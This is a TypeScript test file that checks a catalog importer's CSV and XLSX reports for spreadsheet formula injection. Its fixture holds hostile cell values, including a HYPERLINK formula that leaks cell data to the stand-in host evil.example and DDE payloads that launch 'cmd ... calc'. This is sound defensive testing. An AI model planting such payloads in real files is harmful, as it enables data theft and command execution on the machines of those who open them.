/**
 * Reports cannot attack their reader: an import of CSV and XLSX files whose cells start with
 * `=`, `+`, `-`, `@`, tab or carriage return (and the full-width forms) writes reports that
 * Excel and LibreOffice show as text. The written files are opened and checked: no formula cell
 * anywhere in `annotated.xlsx`, the seller's cells kept as string cells, and every CSV field that
 * would start a formula prefixed with `'` (plain negative numbers excepted, see docs/report.md).
 */
import { readFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { writeCatalogFixture } from '../helpers/catalog-fixture.js';
import type { FixtureColumn } from '../helpers/catalog-fixture.js';
import { createTestDir, importOnce, splitCsvRecords, startTestSandbox } from './fault-kit.js';
import { requireAnnotatedPath } from '../helpers/require-annotated-path.js';

/** Cells a spreadsheet would run, by data row. Rows 6 and 7 are invalid (their values are echoed in `_errors`). */
const ATTACKS: Record<number, Partial<Record<FixtureColumn, string>>> = {
  0: { Наименование: '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")' },
  1: { Наименование: '+7 701 123 45 67' },
  2: { Наименование: "-2+3+cmd|' /C calc'!A0" },
  3: { Наименование: "@SUM(1+1)*cmd|' /C calc'!A0" },
  4: { Наименование: '\t=1+1 таб' },
  5: { Наименование: '\r=1+1 возврат' },
  6: { Бренд: '=1+2', Описание: '＝2+2' },
  7: { Цвет: '@cmd', Модель: '+A7' },
  8: { Модель: '-5' },
};

/** A CSV field that a spreadsheet would treat as a formula (plain negative numbers are numbers). */
function isFormulaTrigger(field: string): boolean {
  if (/^-\d+([.,]\d+)?$/.test(field)) return false;
  return /^[=+\-@\t\r＝＋－＠]/.test(field);
}

async function importAttacks(format: 'csv' | 'xlsx') {
  const dir = await createTestDir('catalog-report-safety-');
  const sandbox = await startTestSandbox(dir);
  const fixture = await writeCatalogFixture({ dir, products: 10, format, override: (i) => ATTACKS[i] });
  const { result } = await importOnce({ dir, sandbox, fixture });
  return { result, fixture };
}

function checkCsvFields(text: string, file: string): string[] {
  const records = splitCsvRecords(text.replace(/^\ufeff/, ''));
  const problems: string[] = [];
  records.forEach((record, r) => {
    record.forEach((field, c) => {
      if (isFormulaTrigger(field)) problems.push(`${file} record ${r + 1} field ${c + 1} starts a formula: ${JSON.stringify(field.slice(0, 40))}`);
    });
  });
  return problems;
}

describe('reports written for a file full of formula-like cells', () => {
  it('CSV input: annotated.csv and rejected-rows.csv prefix every formula trigger, and keep the text after the prefix', async () => {
    const { result } = await importAttacks('csv');
    const annotated = await readFile(requireAnnotatedPath(result.reportPaths), 'utf8');
    const rejected = await readFile(result.reportPaths.rejectedRows, 'utf8');
    expect(checkCsvFields(annotated, 'annotated.csv')).toEqual([]);
    expect(checkCsvFields(rejected, 'rejected-rows.csv')).toEqual([]);
    const fields = splitCsvRecords(annotated.replace(/^\ufeff/, '')).flat();
    expect(fields).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")`);
    expect(fields).toContain("'+7 701 123 45 67");
    expect(fields).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(fields).toContain('-5');
    // The invalid rows are in the rejected rows, their echoed values neutralised too.
    expect(splitCsvRecords(rejected.replace(/^\ufeff/, '')).length).toBe(1 + 2);
  });

  it('XLSX input: annotated.xlsx has no formula cell on any sheet, the seller cells are text, the tool text is prefixed', async () => {
    const { result, fixture } = await importAttacks('xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(requireAnnotatedPath(result.reportPaths));
    const formulas: string[] = [];
    let cells = 0;
    workbook.eachSheet((sheet) => {
      sheet.eachRow({ includeEmpty: false }, (row) => {
        row.eachCell({ includeEmpty: false }, (cell) => {
          cells += 1;
          const value = cell.value as unknown;
          const isFormula = cell.type === ExcelJS.ValueType.Formula || (typeof value === 'object' && value !== null && ('formula' in value || 'sharedFormula' in value));
          if (isFormula) formulas.push(`${sheet.name}!${cell.address}`);
        });
      });
    });
    expect(cells).toBeGreaterThan(100);
    expect(formulas).toEqual([]);
    const data = workbook.worksheets[0] as ExcelJS.Worksheet;
    // Row 2 is the first data row: the seller's name cell, exactly as written, as a string cell.
    const name = data.getCell('C2');
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(fixture.cells[0]?.[2]);
    // The `To fix` sheet echoes values: every text there that would start a formula is prefixed.
    const toFix = workbook.worksheets.find((s) => s.name !== data.name);
    expect(toFix).toBeDefined();
    const echoed: string[] = [];
    toFix?.eachRow((row) => row.eachCell((cell) => echoed.push(String(cell.text))));
    expect(echoed.filter(isFormulaTrigger)).toEqual([]);
    expect(echoed.some((t) => t.startsWith("'="))).toBe(true);
    const rejected = await readFile(result.reportPaths.rejectedRows, 'utf8');
    expect(checkCsvFields(rejected, 'rejected-rows.csv')).toEqual([]);
  });

  it('the check itself spots an unprefixed formula (it can fail)', () => {
    expect(checkCsvFields('a;=1+1\r\n', 'x.csv')).toHaveLength(1);
    expect(checkCsvFields('a;"\t=1"\r\n', 'x.csv')).toHaveLength(1);
    expect(checkCsvFields("a;'=1+1;-5;-5,50\r\n", 'x.csv')).toEqual([]);
  });
});
